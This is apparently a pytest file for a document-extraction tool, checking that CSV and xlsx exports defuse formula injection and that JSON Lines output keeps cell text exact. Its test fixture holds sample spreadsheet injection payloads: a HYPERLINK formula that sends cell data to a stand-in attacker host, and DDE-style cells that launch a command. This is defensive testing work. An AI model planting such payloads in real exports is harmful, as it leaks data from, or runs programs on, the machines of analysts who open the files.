"""Exports of cells a stranger typed (issue 10, CSV injection): no cell of a CSV or
xlsx export runs as a formula where an analyst opens it; JSON Lines stays exact."""

from __future__ import annotations

import csv
import json

import openpyxl
import pyarrow as pa
from hypothesis import given
from hypothesis import strategies as st

from planextract.pipeline.cli import main
from planextract.report.export import FORMULA_STARTS, inert
from planextract.schema import SCHEMAS, write_dataset

HOSTILE = {"action": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
           "progress": "@SUM(1+1)*cmd|' /C calc'!A0", "risk": "-2+3+cmd|' /C calc'!A0",
           "duty_relevance": "+1-12", "owners_raw": "\tHR", "due_raw": "\r=1"}
HARMLESS = {"section": "Plan - phase 2", "objective": "1 + 1 = 2", "outcome": "a@b.org"}


def _dataset(tmp_path):
    row = {f.name: None for f in SCHEMAS["actions"]}
    row.update(doc_id="d", source="a.txt", source_format="text-tabbed", owners=["=1+1", "HR"],
               owner_people=[], due_kind="none", strands=[], scrutiny=[],
               extra=[("=cmd", "x")], flags=[], **HOSTILE, **HARMLESS)
    doc = {"doc_id": "d", "source": "a.txt", "source_format": "text-tabbed",
           "sha256": "0" * 64, "bytes": 1, "pages": None, "organisation": "-Org",
           "plan_title": None, "n_actions": 1, "status": "ok", "error": None,
           "warnings": [], "seconds": 0.0}
    write_dataset(tmp_path / "ds", {
        "actions": pa.Table.from_pylist([row], schema=SCHEMAS["actions"]),
        "documents": pa.Table.from_pylist([doc], schema=SCHEMAS["documents"])})
    return tmp_path / "ds"


def test_csv_cells_that_would_be_formulas_start_with_an_apostrophe(tmp_path):
    out = tmp_path / "a.csv"
    assert main(["export", str(_dataset(tmp_path)), "--format", "csv", "-o", str(out)]) == 0
    with open(out, encoding="utf-8", newline="") as f:
        (row,) = list(csv.DictReader(f))
    for column, text in HOSTILE.items():
        assert row[column] == "'" + text, column
    assert row["owners"] == "'=1+1; HR"
    assert row["extra"] == "'=cmd: x"
    for column, text in HARMLESS.items():
        assert row[column] == text, column  # a sign inside the text is no formula
    assert not any(v.startswith(FORMULA_STARTS) for v in row.values())


def test_documents_csv_is_guarded_too_and_numbers_stay_numbers(tmp_path):
    out = tmp_path / "d.csv"
    assert main(["export", str(_dataset(tmp_path)), "--format", "csv", "--table", "documents",
                 "-o", str(out)]) == 0
    with open(out, encoding="utf-8", newline="") as f:
        (row,) = list(csv.DictReader(f))
    assert row["organisation"] == "'-Org"
    assert row["n_actions"] == "1" and row["seconds"] == "0.0"


def test_xlsx_cells_are_strings_never_formulas(tmp_path):
    out = tmp_path / "a.xlsx"
    assert main(["export", str(_dataset(tmp_path)), "--format", "xlsx", "-o", str(out)]) == 0
    book = openpyxl.load_workbook(out)
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
    values = {c.value for c in book.worksheets[1][2]}
    assert HOSTILE["action"] in values  # kept as typed, as text


def test_jsonl_keeps_the_text_exactly(tmp_path):
    out = tmp_path / "a.jsonl"
    assert main(["export", str(_dataset(tmp_path)), "--format", "jsonl", "-o", str(out)]) == 0
    row = json.loads(out.read_text(encoding="utf-8"))
    assert {k: row[k] for k in HOSTILE} == HOSTILE


@given(st.text(max_size=20))
def test_inert_text_never_starts_a_formula_and_keeps_the_text(text):
    out = inert(text)
    assert not out.startswith(FORMULA_STARTS)
    assert out in (text, "'" + text)
    assert (out == text) == (not text.startswith(FORMULA_STARTS))


def test_inert_leaves_numbers_and_missing_values():
    assert inert(-3) == -3 and inert(-0.5) == -0.5 and inert(None) is None
